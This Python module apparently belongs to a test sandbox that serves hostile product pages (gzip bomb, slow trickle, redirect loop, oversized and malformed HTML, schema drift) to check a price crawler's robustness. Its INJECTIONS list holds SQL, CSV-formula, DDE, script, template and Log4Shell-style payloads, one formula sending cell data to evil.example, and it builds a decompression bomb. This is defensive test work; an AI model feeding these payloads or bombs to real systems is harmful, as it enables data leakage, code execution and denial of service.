"""Hostile modes of the sandbox shops: pages that try to exhaust, hang or fool a crawler.

Set like the fault modes (``pricewatch.sandbox._modes``), per host, through
``POST /_control {"host": ..., "mode": NAME, ...params}`` or ``--mode HOST=NAME:k=v``; they
apply to product pages only, to a stable ``fraction`` of them (chosen per product).

=============== ==========================================================================
mode            params (defaults)
=============== ==========================================================================
bomb            gzip body (``Content-Encoding: gzip``) inflating to ``size`` bytes (32 MiB)
trickle         the product page sent ``chunk`` bytes (1) every ``interval`` seconds (0.5)
redirect_loop   302 to the same page with one more ``?hop=N``, forever
huge            the product page padded to ``size`` bytes (16 MiB); ``chunked`` (false):
                no Content-Length, so the size shows only while the body arrives
malformed       broken markup: invalid UTF-8, NUL bytes, unclosed tags, a truncated
                JSON-LD offer, 5,000 nested elements (no price to find)
inject          the real page with injection strings (SQL, CSV formulas, ANSI escapes,
                script, template, NUL) added to the product's name: the offer is valid
redesign        the shop's new page template, as after a relaunch: the product's name and
                buy button, the price drawn as an image; no price markup, no price text
                (schema drift: 200 OK, nothing to extract)
=============== ==========================================================================

The ground truth (``/_truth``) is unchanged: a crawler must store the real price of an
``inject`` page, and nothing at all for the others.
"""

from __future__ import annotations

import asyncio
import dataclasses
import functools
import html
import zlib
from typing import TYPE_CHECKING, Any

from aiohttp import web

from pricewatch.sandbox import _pages

if TYPE_CHECKING:
    from pricewatch.sandbox._catalog import Product, Shop

MIB = 1024 * 1024
PARAMS: dict[str, dict[str, Any]] = {
    "bomb": {"fraction": 1.0, "size": 32 * MIB},
    "trickle": {"fraction": 1.0, "interval": 0.5, "chunk": 1},
    "redirect_loop": {"fraction": 1.0},
    "huge": {"fraction": 1.0, "size": 16 * MIB, "chunked": False},
    "malformed": {"fraction": 1.0},
    "inject": {"fraction": 1.0},
    "redesign": {"fraction": 1.0},
}
NAMES = tuple(PARAMS)

# What a hostile catalogue puts in its text fields.
INJECTIONS = (
    "Robert'); DROP TABLE products;--",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "\x1b[31mRED\x1b[0m\x1b]0;title\x07",
    "<script>alert(1)</script>",
    "{{7*7}} ${jndi:ldap://evil.example/a}",
    "nul\x00byte",
)


def validate(name: str, params: dict[str, Any]) -> str | None:
    """An error message for bad params of hostile mode ``name``, or None."""
    for key in ("size", "chunk"):
        value = params.get(key)
        if key in params and (isinstance(value, bool) or not isinstance(value, int) or value < 1):
            return f"{name}.{key} must be an integer >= 1, got {value!r}"
    interval = params.get("interval")
    if "interval" in params and (
        isinstance(interval, bool) or not isinstance(interval, int | float) or interval < 0
    ):
        return f"{name}.interval must be a number >= 0, got {interval!r}"
    if "chunked" in params and not isinstance(params["chunked"], bool):
        return f"{name}.chunked must be true or false, got {params['chunked']!r}"
    return None


def applies(fraction: float, seed: int, name: str, product: Product) -> bool:
    """Whether ``product`` is hostile under a mode with this fraction (stable per product)."""
    h = zlib.crc32(f"{seed}:{name}:{product.sku}".encode())
    return (h % 10_000) / 10_000 < fraction


async def respond(
    name: str, params: dict[str, Any], shop: Shop, product: Product, request: web.Request
) -> web.StreamResponse:
    """The hostile answer of mode ``name`` for a product page."""
    if name == "bomb":
        return web.Response(
            body=_bomb(params["size"]),
            headers={"Content-Encoding": "gzip", "Content-Type": "text/html; charset=utf-8"},
        )
    if name == "redirect_loop":
        hop = request.query.get("hop", "0")
        raise web.HTTPFound(f"{request.path}?hop={int(hop) + 1 if hop.isdigit() else 1}")
    if name == "malformed":
        return web.Response(body=_malformed(product), content_type="text/html")
    if name == "redesign":
        return web.Response(text=_redesigned(product), content_type="text/html", charset="utf-8")
    if name == "inject":
        hostile = dataclasses.replace(product, name=" | ".join((*INJECTIONS, product.name)))
        return web.Response(
            text=_pages.product_page(shop, hostile), content_type="text/html", charset="utf-8"
        )
    page = _pages.product_page(shop, product).encode()
    if name == "huge":
        size = params["size"]
        body = page + b"<!--" + b"x" * max(0, size - len(page) - 7) + b"-->"
        if not params["chunked"]:
            return web.Response(body=body, content_type="text/html", charset="utf-8")
        response = web.StreamResponse(headers={"Content-Type": "text/html; charset=utf-8"})
        response.enable_chunked_encoding()
        await response.prepare(request)
        for start in range(0, len(body), MIB):
            await response.write(body[start : start + MIB])
        await response.write_eof()
        return response
    if name == "trickle":
        response = web.StreamResponse(headers={"Content-Type": "text/html; charset=utf-8"})
        response.content_length = len(page)
        await response.prepare(request)
        step = params["chunk"]
        for start in range(0, len(page), step):
            await response.write(page[start : start + step])
            await asyncio.sleep(params["interval"])
        await response.write_eof()
        return response
    raise ValueError(f"not a hostile mode: {name!r}")


@functools.lru_cache(maxsize=4)
def _bomb(size: int) -> bytes:
    """A gzip member inflating to ``size`` bytes of an HTML page's whitespace."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    head = b"<!DOCTYPE html><html><head><title>bomb</title></head><body>"
    out = [packer.compress(head)]
    block = b" " * MIB
    left = size - len(head)
    while left > 0:
        out.append(packer.compress(block[: min(left, MIB)]))
        left -= MIB
    out.append(packer.flush())
    return b"".join(out)


def _redesigned(product: Product) -> str:
    name = html.escape(product.name)
    return (
        "<!DOCTYPE html><html lang='en'><head><meta charset='utf-8'>"
        f"<title>{name}</title></head><body><main class='pdp-v2'><h1>{name}</h1>"
        f"<img class='tag-art' alt='' src='/img/t/{html.escape(product.sku)}.png'>"
        "<form method='post' action='/cart'><button type='submit'>Add to basket</button>"
        "</form></main></body></html>"
    )


def _malformed(product: Product) -> bytes:
    broken_ld = (
        '<script type="application/ld+json">{"@context": "https://schema.org", '
        f'"@type": "Product", "name": "{product.sku}", "offers": {{"@type": "Offer", "price": "'
    )
    return b"".join(
        (
            b"<!DOCTYPE html><html><head><meta charset='utf-8'><title>\xff\xfe\x00broken",
            broken_ld.encode(),
            b"</head><body><div class='product'><h1>\x00\x00<b><i><table><tr><td>",
            b"<div>" * 5000,
            b"\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x28\x8c\xbc",
            b"<span itemprop='price' content=''></span><p>no price here",
            b"</i></b>" * 3,
        )
    )
